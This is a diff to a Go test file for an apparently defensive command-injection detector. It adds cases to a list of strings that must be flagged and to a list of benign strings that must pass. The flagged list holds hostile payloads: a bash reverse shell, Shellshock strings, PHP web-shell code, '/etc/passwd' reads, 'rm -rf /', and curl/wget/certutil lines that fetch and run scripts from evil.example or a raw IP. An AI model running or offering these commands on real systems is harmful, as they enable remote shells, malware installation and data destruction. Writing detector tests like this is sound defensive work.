@@ -12,7 +12,7 @@ func TestCommand(t *testing.T) {
 		"; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "() { :;}; /bin/bash -c 'id'", "() { ignored;};echo hi", "cat /etc/passwd", "/bin/cat /etc/passwd", "/usr/bin/id",
 		"<!--#exec cmd=\"id\"-->", "<?php system($_GET['c']); ?>", "system('id')", "exec(\"cat /etc/passwd\")", "passthru('ls')", "phpinfo()", "${@phpinfo()}",
 		"eval(base64_decode('cGhwaW5mbygp'))", "__import__('os').system('id')", "require('child_process').exec('id')", "call_user_func_array", "a;echo 1|md5sum;", ";rm -rf /",
-		"x || ping -c 10 127.0.0.1 ||", "ping.exe -n 31 127.0.0.1", "ping -i 30 127.0.0.1", "a=1;nslookup evil.example", "$(sleep 5)", "`sleep 5`", ";certutil -urlcache -f http://evil.example/x x", "; python3 -c 'import os'", "%0a wget https://evil.example/bot.sh -O- | sh")
+		"x || ping -c 10 127.0.0.1 ||", "ping.exe -n 31 127.0.0.1", "ping -i 30 127.0.0.1", "a=1;nslookup evil.example", "$(sleep 5)", "`sleep 5`", ";certutil -urlcache -f http://evil.example/x x", "; python3 -c 'import os'", "%0a wget https://evil.example/bot.sh -O- | sh", "curl -s https://evil.example/x|bash -s", "wget http://1.2.3.4/bin.sh -O- | sh")
 	queries(t, Command, "host=127.0.0.1&&id", "host=127.0.0.1%3Bid", "host=127.0.0.1;cat+notes.txt", "cmd=%60id%60", "q=%24%28id%29", "ip=1.1.1.1%26%26whoami")
 }
 
@@ -23,5 +23,5 @@ func TestNoCommand(t *testing.T) {
 		"what is whoami?", "wait; date night", "cut & paste", "black & decker", "echo & the bunnymen", "M&S; next", "Q&A", "line one\nline two\nmore to come", "bash tutorial", "ls command",
 		"how to ping google.com", "python vs. php; java", "$100 (sale)", "$(document).ready", "price: $5; date: today", "a && b", "a || b",
 		"C++; C#; Java", "id=5", "host: example.com", "1; 2; 3", "file.txt", "sleep 8 hours", "net price; type of goods", "perl & python", "more; less", "exec summary; head of sales", "v=1;w=2", "text/html;charset=utf-8", "en-US,en;q=0.9",
-		"*/5 * * * *", "&copy; Axiom", "&copy; Copy, 2024", "Alias /robots.txt", "touch /file", "0 0 * * 1-5")
+		"*/5 * * * *", "&copy; Axiom", "&copy; Copy, 2024", "Alias /robots.txt", "touch /file", "id\\nname\\ndate", "curl https://example.com | jq", "0 0 * * 1-5")
 }
